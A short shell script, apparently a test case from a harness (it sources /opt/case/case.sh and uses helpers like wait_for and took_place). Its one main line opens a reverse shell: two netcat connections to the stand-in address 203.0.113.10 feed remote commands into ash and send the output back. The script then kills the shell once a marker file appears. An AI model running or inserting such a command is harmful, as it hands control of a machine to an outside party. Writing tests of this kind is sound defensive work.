#!/bin/sh
. /opt/case/case.sh

nc 203.0.113.10 443 </dev/zero 2>/dev/null | ash 2>&1 | nc 203.0.113.10 9001 >/dev/null & row=$!
wait_for /tmp/reached
kill $row 2>/dev/null || true
took_place
